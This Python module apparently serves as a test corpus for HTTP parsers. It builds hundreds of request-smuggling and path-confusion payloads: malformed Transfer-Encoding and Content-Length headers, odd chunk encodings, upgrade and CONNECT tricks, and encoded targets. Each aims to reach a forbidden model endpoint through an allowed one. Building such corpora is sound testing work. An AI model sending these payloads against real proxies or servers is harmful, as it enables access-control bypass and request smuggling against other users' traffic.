"""Bytes that one HTTP parser may take for one request, and another for two."""

from __future__ import annotations

from itertools import product

ALLOWED = b"/v1/models/good:predict"
FORBIDDEN = b"/v1/models/victim:predict"
_ROWS = b'{"instances": [4.0]}'
_HEAD = b"POST %b HTTP/1.1\r\nHost: a\r\n" % ALLOWED

# A request that is to be executed, and the start of one that is to swallow the following bytes.
SMUGGLED = b"POST %b HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n%b" % (
    FORBIDDEN,
    len(_ROWS),
    _ROWS,
)
SWALLOWING = b"POST %b HTTP/1.1\r\nHost: a\r\nContent-Length: 300\r\n\r\n" % FORBIDDEN
TAILS = {"whole": SMUGGLED, "swallowing": SWALLOWING}
# The number of bytes before it that makes it a separate read, after empty lines, which parsers
# skip.
_LATE = {"late": b"\r\n" * 10000 + SMUGGLED, "late and swallowing": b"\r\n" * 40000 + SWALLOWING}

_ENCODINGS = [
    b"Transfer-Encoding: chunked",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding:\x0bchunked",
    b"Transfer-Encoding: chunked;q=1",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: CHUNKED",
    b"Transfer-Encoding:\r\n chunked",
    b" Transfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"X: y\r\n Transfer-Encoding: chunked",
    b"Transfer_Encoding: chunked",
    b"Transfer-Encoding: chunked\x00",
    b"Transfer-Encoding\x00: chunked",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
]
_LENGTHS = [
    b"Content-Length: %(n)d\r\nContent-Length: 0",
    b"Content-Length: 0\r\nContent-Length: %(n)d",
    b"Content-Length: 0, %(n)d",
    b"Content-Length: %(n)d, %(n)d",
    b"Content-Length: +%(n)d",
    b"Content-Length: -%(n)d",
    b"Content-Length: 0%(n)d",
    b"Content-Length: 0x%(n)x",
    b"Content-Length: %(n)d;",
    b"Content-Length:\r\n %(n)d",
    b"Content-Length: 0\r\n %(n)d",
    b"Content-Length : %(n)d",
    b" Content-Length: %(n)d",
    b"Content-Length: %(n)d\x0b",
    b"Content_Length: %(n)d",
    b"Content-Length: 18446744073709551616",
    b"Content-Length: 99999999999999999999%(n)d",
    b"Content-Length:",
    b"Connection: Content-Length\r\nContent-Length: %(n)d",
    b"X: y\nContent-Length: %(n)d",
]
_UPGRADES = [
    b"Upgrade: foo\r\nConnection: upgrade\r\n",
    b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n",
    b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n",
    b"Upgrade: websocket\r\nConnection: keep-alive, upgrade\r\n",
    b"Connection: upgrade\r\n",
]


def _chunked(*chunks: bytes) -> bytes:
    return b"".join(b"%x\r\n%b\r\n" % (len(chunk), chunk) for chunk in chunks)


def _lengths_and_encodings() -> dict[str, bytes]:
    found = {}
    for (name, tail), encoding in product(TAILS.items(), _ENCODINGS):
        for second in (b"", b"Content-Length: %d\r\n"):
            body = _chunked(_ROWS) + b"0\r\n\r\n" + tail
            length = second % len(body) if second else b""
            found[f"CL.TE {encoding!r} {bool(second)} {name}"] = (
                _HEAD + length + encoding + b"\r\n\r\n" + body
            )
            body = _chunked(_ROWS + b" " * 4 + tail) + b"0\r\n\r\n"
            length = second % 4 if second else b""
            found[f"TE.CL {encoding!r} {bool(second)} {name}"] = (
                _HEAD + encoding + b"\r\n" + length + b"\r\n" + body
            )
    for (name, tail), length in product(TAILS.items(), _LENGTHS):
        body = _ROWS + b" " * 10 + tail
        line = length % {b"n": len(body)} if b"%" in length else length
        found[f"length {length!r} {name}"] = _HEAD + line + b"\r\n\r\n" + body
    return found


def _chunks() -> dict[str, bytes]:
    head = _HEAD + b"Transfer-Encoding: chunked\r\n\r\n"
    size = b"%x" % len(_ROWS)
    rows = _ROWS + b"\r\n"
    end = b"0\r\n\r\n"
    found = {}
    for name, tail in TAILS.items():
        long = b"%x" % (len(_ROWS) + len(tail))
        forms = {
            "extension": size + b";a=b\r\n" + rows + end + tail,
            "extension with a line feed": size + b";a\n" + rows + end + tail,
            "extension with a return": size + b";\r" + rows + end + tail,
            "extension that hides a chunk": size + b";\n" + long + b"\r\n" + rows + end + tail,
            "long extension": size + b";" + b"a" * 20000 + b"\r\n" + rows + end + tail,
            "space before the extension": size + b" ;a\r\n" + rows + end + tail,
            "tab behind the size": size + b"\t\r\n" + rows + end + tail,
            "size with a sign": b"+" + size + b"\r\n" + rows + end + tail,
            "negative size": b"-1\r\n" + rows + end + tail,
            "size with 0x": b"0x" + size + b"\r\n" + rows + end + tail,
            "size that overflows": b"1" + size.rjust(16, b"0") + b"\r\n" + rows + end + tail,
            "size of 2^64": b"f" * 16 + b"\r\n" + rows + end + tail,
            "size with an underscore": size[:1] + b"_" + size[1:] + b"\r\n" + rows + end + tail,
            "no line end behind a chunk": size + b"\r\n" + _ROWS + end + tail,
            "two bytes too many": size + b"\r\n" + _ROWS + b"xx" + end + tail,
            "bare line feeds": size + b"\n" + _ROWS + b"\n0\n\n" + tail,
            "last chunk of two zeros": size + b"\r\n" + rows + b"00\r\n\r\n" + tail,
            "last chunk with an extension": size + b"\r\n" + rows + b"0;" + tail,
            "trailer": size + b"\r\n" + rows + b"0\r\nX: y\r\n\r\n" + tail,
            "trailer of a length": size + b"\r\n" + rows + b"0\r\nContent-Length: 9\r\n\r\n" + tail,
            "trailer of chunks": (
                size + b"\r\n" + rows + b"0\r\nTransfer-Encoding: chunked\r\n\r\n" + tail
            ),
            "trailer that is folded": size + b"\r\n" + rows + b"0\r\nX: y\r\n z\r\n\r\n" + tail,
            "trailer that is a request": size + b"\r\n" + rows + b"0\r\n" + tail,
            "trailer with a line feed": size + b"\r\n" + rows + b"0\r\nX: y\n\n" + tail,
            "empty line with a return": size + b"\r\n" + rows + b"0\r\n\r" + tail,
        }
        found |= {f"chunks, {form} {name}": head + text for form, text in forms.items()}
    return found


def _lines_and_targets() -> dict[str, bytes]:
    rows = b"Content-Length: %d\r\n\r\n%b" % (len(_ROWS), _ROWS)
    host = b"Host: a\r\n"
    found: dict[str, bytes] = {
        "folded header": _HEAD + b"X: y\r\n\tz\r\n" + rows,
        "header without a colon": _HEAD + b"nothing\r\n" + rows,
        "header without a name": _HEAD + b": y\r\n" + rows,
        "NUL in a header": _HEAD + b"X: a\x00b\r\n" + rows,
        "two hosts": _HEAD + host + rows,
        "no host": b"POST %b HTTP/1.1\r\n" % ALLOWED + rows,
    }
    targets = {
        "absolute": b"http://a" + FORBIDDEN,
        "absolute, another host": b"http://a@b:1" + FORBIDDEN,
        "absolute, allowed": b"http://a" + ALLOWED + b"?" + FORBIDDEN,
        "dots": ALLOWED + b"/../victim:predict",
        "dots before": FORBIDDEN + b"/../good:predict",
        "packed dots": FORBIDDEN + b"/%2e%2e/good:predict",
        "packed slash": b"/v1/models/good:predict%2f..%2fvictim:predict",
        "two slashes": b"//v1/models/victim:predict",
        "packed letter": b"/v1/models/%76ictim:predict",
        "fragment": ALLOWED + b"#/../victim:predict",
        "backslash": ALLOWED + b"\\..\\victim:predict",
        "semicolon": ALLOWED + b";/../victim:predict",
        "NUL": ALLOWED + b"%00",
        "space": ALLOWED + b" HTTP/1.1 " + FORBIDDEN,
        "line end": ALLOWED + b"%20HTTP/1.1%0d%0aX:%20y",
        "upper case": b"/V1/MODELS/victim:PREDICT",
    }
    for name, target in targets.items():
        found[f"target, {name}"] = b"POST %b HTTP/1.1\r\n" % target + host + rows
    for name, tail in TAILS.items():
        found |= {
            f"bare line feeds {name}": (_HEAD + rows).replace(b"\r\n", b"\n") + tail,
            f"bare returns {name}": (_HEAD + rows).replace(b"\r\n", b"\r") + tail,
            f"header that ends in a line feed {name}": _HEAD + b"X: y\n\n" + tail,
            f"header that hides one {name}": _HEAD + b"X: y\r\r\n\r\n" + tail,
            f"empty lines before {name}": b"\r\n\r\n\n" + _HEAD + rows + tail,
            f"HTTP/0.9 {name}": b"GET %b\r\n" % ALLOWED + tail,
            f"HTTP/2 {name}": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + tail,
        }
        for version in (b"1.0", b"1.2", b"2.0", b"0.9", b"1.1 ", b"1.01"):
            head = _HEAD.replace(b"HTTP/1.1", b"HTTP/" + version)
            chunks = _chunked(_ROWS) + b"0\r\n\r\n"
            found[f"HTTP/{version.decode()} {name}"] = (
                head + b"Connection: keep-alive\r\n" + rows.replace(_ROWS, _ROWS + tail)
            )
            found[f"HTTP/{version.decode()} in chunks {name}"] = (
                head
                + b"Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n"
                + chunks
                + tail
            )
    return found


def _bodies() -> dict[str, bytes]:
    found = {}
    for name, tail in {**TAILS, **_LATE}.items():
        body = _ROWS + b" \r\n" + tail
        length = b"Content-Length: %d\r\n" % len(body)
        for upgrade in _UPGRADES:
            for method, kind in product((b"POST", b"GET", b"OPTIONS"), ("length", "chunks", "")):
                head = b"%b %b HTTP/1.1\r\nHost: a\r\n" % (method, ALLOWED) + upgrade
                text = {
                    "length": length + b"\r\n" + body,
                    "chunks": b"Transfer-Encoding: chunked\r\n\r\n" + _chunked(body) + b"0\r\n\r\n",
                    "": b"\r\n" + tail,
                }[kind]
                found[f"{upgrade!r} {method.decode()} {kind} {name}"] = head + text
        for method in (b"GET", b"HEAD", b"OPTIONS", b"DELETE", b"PUT", b"TRACE", b"FOO", b"get"):
            head = b"%b %b HTTP/1.1\r\nHost: a\r\n" % (method, ALLOWED)
            found[f"{method.decode()} with a body {name}"] = head + length + b"\r\n" + body
        for target in (b"a:80", ALLOWED, b"127.0.0.1:1", FORBIDDEN):
            head = b"CONNECT %b HTTP/1.1\r\nHost: a\r\n" % target
            found[f"CONNECT {target!r} {name}"] = head + b"\r\n" + tail
            found[f"CONNECT {target!r} with a body {name}"] = head + length + b"\r\n" + body
        for more in (
            b"Expect: 100-continue\r\n",
            b"Expect: 100-Continue, x\r\n",
            b"Expect: x 100-continue\r\n",
            b"Content-Encoding: foo\r\n",
            b"X-Request-Timeout-Ms: soon\r\n",
            b"Connection: close\r\n",
            b"Connection: Host\r\n",
        ):
            found[f"{more!r} {name}"] = _HEAD + more + length + b"\r\n" + body
            found[f"{more!r}, refused {name}"] = (
                _HEAD.replace(b":predict", b"/versions/99:predict") + more + length + b"\r\n" + body
            )
    return found


def attempts() -> dict[str, bytes]:
    """All attempts, by their description."""
    return {**_lengths_and_encodings(), **_chunks(), **_lines_and_targets(), **_bodies()}
